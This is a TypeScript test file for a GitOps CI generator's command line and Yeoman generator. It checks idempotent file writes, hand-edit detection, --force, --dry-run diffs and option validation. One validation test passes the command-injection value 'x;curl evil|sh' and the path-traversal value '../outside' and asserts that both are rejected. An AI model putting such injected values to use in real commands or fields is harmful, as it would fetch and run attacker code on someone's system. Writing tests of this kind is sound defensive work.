// `platform-gitops ci` without a terminal, and `platform:ci` through Yeoman: owned files like
// every other generator's (no byte on a re-run, hand edits stop the run unless --force).
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { CI_WORKFLOW_PATH, DEFAULT_NODE_VERSION, DEFAULT_PACKAGE_SPEC, RENOVATE_CONFIG_PATH, YO_RC_NAMESPACE } from '../../src/index.js';
import { runGenerator } from '../../src/cli/index.js';
import { ROOT } from '../support/package-paths.js';
import { readTree, snapshotTree, tempDir } from '../support/tree.js';

/** The bin, in `cwd`, without a terminal (spawnSync's stdin is a pipe). */
const ci = (cwd: string, ...args: string[]) => spawnSync(process.execPath, [join(ROOT, 'bin/platform-gitops.js'), 'ci', ...args], { cwd, encoding: 'utf8' });

function firstRun(...args: string[]): string {
  const dir = tempDir('gp-ci-cmd-');
  mkdirSync(join(dir, 'kubernetes'));
  const result = ci(dir, ...args);
  assert.equal(result.status, 0, result.stderr);
  return dir;
}

test('the first run writes the workflow, renovate.json and the answers; a re-run writes no byte', () => {
  const dir = firstRun();
  assert.deepEqual(Object.keys(readTree(dir)).sort(), ['.github/workflows/gitops-validate.yaml', '.yo-rc.json', 'renovate.json']);
  const stored = JSON.parse(readFileSync(join(dir, '.yo-rc.json'), 'utf8'))[YO_RC_NAMESPACE].ci;
  assert.deepEqual(stored, { gitopsPaths: ['kubernetes/**'], nodeVersion: DEFAULT_NODE_VERSION, renovate: true, packageSpec: DEFAULT_PACKAGE_SPEC });
  const before = snapshotTree(dir);
  const again = ci(dir);
  assert.equal(again.status, 0, again.stderr);
  assert.match(again.stdout, /identical \.github\/workflows\/gitops-validate\.yaml\n\s*identical renovate\.json\n$/);
  assert.deepEqual(snapshotTree(dir), before);
});

test('options change the stored answers, and a later run without options keeps them', () => {
  const dir = firstRun('--node-version', '22', '--gitops-paths', 'clusters,infrastructure', '--no-renovate');
  assert.deepEqual(Object.keys(readTree(dir)).sort(), ['.github/workflows/gitops-validate.yaml', '.yo-rc.json']);
  const workflow = readFileSync(join(dir, CI_WORKFLOW_PATH), 'utf8');
  assert.match(workflow, /node-version: "22"/);
  assert.match(workflow, /paths:\n {6}- clusters\/\*\*\n {6}- infrastructure\/\*\*\n/);
  const before = snapshotTree(dir);
  assert.equal(ci(dir).status, 0);
  assert.deepEqual(snapshotTree(dir), before);
});

test('without answers, the folders default to the ones the repository uses', () => {
  const dir = tempDir('gp-ci-detect-');
  for (const folder of ['clusters', 'apps', 'docs']) mkdirSync(join(dir, folder));
  assert.equal(ci(dir).status, 0);
  assert.match(readFileSync(join(dir, CI_WORKFLOW_PATH), 'utf8'), /paths:\n {6}- clusters\/\*\*\n {6}- apps\/\*\*\n {6}- \.github/);
});

test('a hand edit stops a run that would change the file, naming it; --force overwrites it', () => {
  const dir = firstRun();
  const file = join(dir, RENOVATE_CONFIG_PATH);
  const edited = readFileSync(file, 'utf8').replace('"coredns chart"', '"dns"');
  writeFileSync(file, edited);
  const before = snapshotTree(dir);
  const stopped = ci(dir, '--node-version', '22');
  assert.equal(stopped.status, 1);
  assert.match(stopped.stderr, /edited by hand[\s\S]*- renovate\.json\n[\s\S]*--force/);
  assert.deepEqual(snapshotTree(dir), before, 'nothing written, not even the workflow');
  // An unchanged re-run stops too: the file differs from what the answers render.
  assert.equal(ci(dir).status, 1);
  const forced = ci(dir, '--force');
  assert.equal(forced.status, 0, forced.stderr);
  assert.match(forced.stdout, /force renovate\.json/);
  assert.match(readFileSync(file, 'utf8'), /"groupName": "coredns chart"/);
});

test('--dry-run prints the unified diff and writes nothing', () => {
  const dir = firstRun();
  const before = snapshotTree(dir);
  const dry = ci(dir, '--dry-run', '--node-version', '22');
  assert.equal(dry.status, 0, dry.stderr);
  assert.match(dry.stdout, /^--- a\/\.github\/workflows\/gitops-validate\.yaml\n\+\+\+ b\/\.github\/workflows\/gitops-validate\.yaml\n[\s\S]*- {10}node-version: "26"\n\+ {10}node-version: "22"\n/);
  assert.match(dry.stdout, /\+\+\+ b\/\.yo-rc\.json/);
  assert.deepEqual(snapshotTree(dir), before);
  const empty = tempDir('gp-ci-dry-');
  assert.match(ci(empty, '--dry-run').stdout, /^--- \/dev\/null\n\+\+\+ b\/\.github\/workflows\/gitops-validate\.yaml\n/);
  assert.deepEqual(readTree(empty), {});
  assert.equal(ci(dir, '--dry-run').stdout, 'No file would change.\n');
});

test('bad answers exit 1 naming the field and write nothing; unknown options exit 2', () => {
  const dir = tempDir('gp-ci-bad-');
  const bad = ci(dir, '--package-spec', 'x;curl evil|sh', '--gitops-paths', '../outside');
  assert.equal(bad.status, 1);
  assert.match(bad.stderr, /packageSpec: "x;curl evil\|sh" is not an npm package spec/);
  assert.match(bad.stderr, /gitopsPaths\[0\]: "\.\.\/outside" is not a folder of the repository/);
  assert.deepEqual(readTree(dir), {});
  const usage = ci(dir, '--bogus');
  assert.equal(usage.status, 2);
  assert.match(usage.stderr, /Run `platform-gitops ci --help`/);
  assert.match(ci(dir, '--help').stdout, /--gitops-paths <value>[\s\S]*--dry-run/);
});

test('yo platform:ci (yeoman-environment, no terminal) writes the same bytes and stops on a hand edit as well', async () => {
  const viaCli = firstRun('--node-version', '22');
  const viaYeoman = tempDir('gp-ci-yo-');
  mkdirSync(join(viaYeoman, 'kubernetes'));
  assert.equal(await runGenerator('ci', ['--no-interactive', '--node-version', '22'], { cwd: viaYeoman }), 0);
  assert.deepEqual(readTree(viaYeoman), readTree(viaCli));
  const before = snapshotTree(viaYeoman);
  assert.equal(await runGenerator('ci', ['--no-interactive'], { cwd: viaYeoman }), 0);
  assert.deepEqual(snapshotTree(viaYeoman), before, 'a Yeoman re-run writes no byte either');
  writeFileSync(join(viaYeoman, CI_WORKFLOW_PATH), '# mine\n');
  await assert.rejects(runGenerator('ci', ['--no-interactive', '--node-version', '20'], { cwd: viaYeoman }), /edited by hand[\s\S]*gitops-validate\.yaml/);
  assert.equal(readFileSync(join(viaYeoman, CI_WORKFLOW_PATH), 'utf8'), '# mine\n');
});
